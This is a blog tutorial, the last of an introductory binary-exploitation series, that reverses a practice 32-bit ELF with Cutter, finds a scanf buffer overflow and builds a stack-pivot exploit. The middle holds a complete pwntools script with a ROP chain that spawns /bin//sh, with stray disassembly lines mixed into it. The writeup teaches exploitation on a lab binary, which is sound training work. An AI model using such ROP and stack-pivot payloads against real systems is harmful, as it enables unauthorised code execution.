PWN 4/4 : Stack Pivot ToZeMoon !

Small edit after the initial publication of the articles:

These four articles lead me to give an “pwn introductory” conference at the HitchHack 2018. It summarizes the first 3 articles but goes less into detail. If this format suits you better, the slides are downloadable here and the video (French only) here :

Pwn Road, last introductory article!

I promised you some heavy stuff for the final, and what is said, is due!The exploit will not be very long, but here’s the program: A nice technique, some reverse, and an open source tool that you’ll dream of!

You who stood strong during the previous 3 articles, I hope you are still ready!



The studied binary is downloadable here !

Hello little program, what do you do for a living?


Meh, not much…

Let’s take our first tool: Radare2!

I hesitated between presenting its command line interface, or its graphical interface. But there is so much developmentand effort done on their GUI that I want to present this version.

So I present you Cutter, based on radare2, which is a very advanced reverse engineering tool. For the record, radare2 is intended to be as standalone (independent) as possible, i.e. you can use it on a particular device / architecture, even if it does not have any tool / package preinstalled. All you have to do is recompile it in situ or cross-compile it. As a ‘bonus’, many classic admin-sys tools are integrated! A paradise for embded devices, remote control of a watch, phone, or whatever you like.

It is open source, and its developers are very active, so prefer an installation via their git… :)

Official website here:

It’s full of easter eggs, if you have time to waste, enjoy! ;)

I know that the screenshot is difficult to read in its normal size, but I uploaded the source resolution, you can (should) zoom as close as you want!

Sorry / Not sorry, your vision is now blurry! ¯\_(ツ)_/¯


Brief presentation of the interface:

  • On the left:

The different functions of the program. We’re lucky, the program isn’t stripped, so it still contains the names of the functions. Otherwise, we would only have generic names that could not be used easily.

  • On the right:

Information on the line being inspected. Not very useful at the moment.• Up:

An overview of the program structure. Code, data, recognizable patterns for crypto,…

  • Down:

A console of logs (with already an easter egg!) and the different sections of the program and their information.

  • In the middle:

The analysis tool in use.

Here, the dashboard proudly tells us: Bruhhh, I looked a little bit, and you seeeee, I found that your target thereeee, well it’s an ELF, in 32 bits, initially coded in C, without stack canary, without cryptographic protection, its stack is NX, the PIC is disabled. It is not stripped, also it’s compiled in static! :DIsn’t it great all these information with just a finger snap!

So… Get it ? °^°


A quick overview of the execution flow (from the main), still with Cutter :


Way too lazy to analyze it in depth… Pseudo code please?


We immediately see that the decompilation is partial, we see a lot of interesting things, but we don’t have a clear C code as we would like… Well, we’ll deal with it!

There are many lines of code, so it’s time to learn an effective way of looking for security breach in a general hacking way: Sources and Sinks!

A little ref to the Live Overflow youtube channel, it’s GOLD. Everything he does (hacking, pwn, web, reverse, random,…) is of an incredible quality, and he just talked about the SoSi method, so have a look!

In short, what do we control (inputs), and what do we want to reach (dangerous functions).

Here, we want to make a buffer overflow. So we’re looking for vulnerable functions and inputs.

  • Sources: admin name, room name, temperature

  • Sinks: scanf… scanf ? scanf!

scanf corresponds to “room name”. Let’s do a few tests just to be sure that we control the crash point:


Crash confirmed!

Before looking for the offset, there is one more thing to look for, which will MAYBEEEE be useful later… Just saying… For the curious ones, it is in the first code screenshot, for the others, the reading continues:

-[ SPOIL ]-

We read thefollowing code:

push 0x3ff // size: 1023
push obj.username // address: 0x80eb2c0 char * fgets(...) // user entry

In other words, the program will always put in the same place (0x80eb2c0) up to 1023 bytes entered by the user… Maybe it’s legitimate… But it can be useful? Probably… Who knows! :)

Now, the offset!



The program crashes on a ret: Usual, classic, cool.

We do have ESP, good. Wait… What? We have ESP… + 4 ?

Yes, the famous pattern is cleverly formated, clever enough to be detected even if it has been altered (a bit)!

This means that between the time we overflow, and the time we execute the ret instruction, the stack (well, our ESP in the stack) has been altered.

But… We have ESP + 4? Yes. Do we know how to add up? Yes.


I hope you’re starting to see where we’re going with this? :)

We know where to store bytes. We control EIP since we control ESP on a ret. We know the offset, and we know how to modify ESP so that it takes the value of our choice… Justwreckit!

That’s the right time to announce you the technique we’re going to use, a Stack Pivot!We will rotate the execution of our program, making it believe that the stack is where the username is, which we can define as we wish, of course.

I pass the creation of the ropchain as it’s exactly like in the previous article, we’ll do our exploit right away:

#!/usr/bin/env python2

from pwn import *

# Setting up
context.log_level = "debug"

ropchain = ''
ropchain += p32(0x0806ebaa)  # popayloadedx ; ret
ropchain += p32(0x080ea340)  # @ .data
ropchain += p32(0x080bb696)  # popayloadeax ; ret
ropchain += '/bin'
ropchain += p32(0x08097276)  # mov dword ptr [edx], eax ; popayloadebx ; ret
ropchain += p32(0x41414141)  # padding
ropchain += p32(0x0806ebaa)  # popayloadedx ; ret
ropchain += p32(0x080ea344)  # @ .data + 4
ropchain += p32(0x080bb696)  # popayloadeax ; ret
ropchain += '//sh'
ropchain += p32(0x08097276)  # mov dword ptr [edx], eax ; popayloadebx ; retropchain += p32(0x41414141)  # padding
ropchain += p32(0x0806ebaa)  # popayloadedx ; ret
ropchain += p32(0x080ea348)  # @ .data + 8
ropchain += p32(0x080545b0)  # xor eax, eax ; ret
ropchain += p32(0x08097276)  # mov dword ptr [edx], eax ; popayloadebx ; ret
ropchain += p32(0x41414141)  # padding
ropchain += p32(0x080481a9)  # popayloadebx ; ret
ropchain += p32(0x080ea340)  # @ .data
ropchain += p32(0x080c18cc)  # popayloadecx ; ret
ropchain += p32(0x080ea348)  # @ .data + 8
ropchain += p32(0x0806ebaa)  # popayloadedx ; ret
ropchain += p32(0x080ea348)  # @ .data + 8
ropchain += p32(0x080545b0)  # xor eax, eax ; ret
ropchain += p32(0x0807b64f) * 11 # inc eax ; ret
ropchain += p32(0x080494b1)  # int 0x80

p = process("./vuln")
0x08048fc9 <+397>:  lea    esp,[ecx-0x4]
0x08048fcc <+400>:  ret
On ajoute donc 4 a user name pour compenser le -0x4
usernameAddr = 0x80EB2C0
ESP = usernameAddr + 4 # Fix the offset before ret
p.sendline("1" * 28 + p32(ESP))

Let’s run it, it would be crazy to see it working at the first time, wouldn’t it? :O


Bim, shell, first try, too IZI mannnn!


Except… Except it’s not as easy.

By reading an article like that, it doesn’t seem that complex, a little bit messy, at most. Except that for each step, unless you are really good at it (Geluchat, Blackndoor, Pixis, Klaoude, Antoxyde, Ethnical, Reglisse…), it is hours, days (well, nights, we understand each other now ;) ) that are spend learningthis. But trying hard to finally get there, what a satisfaction!

If you also want to get started, I recommend the excellent exercise suite Protostar

As well as the classic root-me that I particularly like. Be careful though, this site will devour your nights… =]

But although I love this site, I don’t think it very appropriate to discover the binary exploit.But for all the other categories of “classic” hacking, go for it, it’s a blessed bread! ;)

That’s how this pwn introduction ends, I hope you liked it and learned some things (at least a little? :D)

I am very, very happy with your many feedback!

Wishing you a happy and successful pwn,PWN 3/4 : SaperliROPette! GreHack 2018
comments powered by Disqus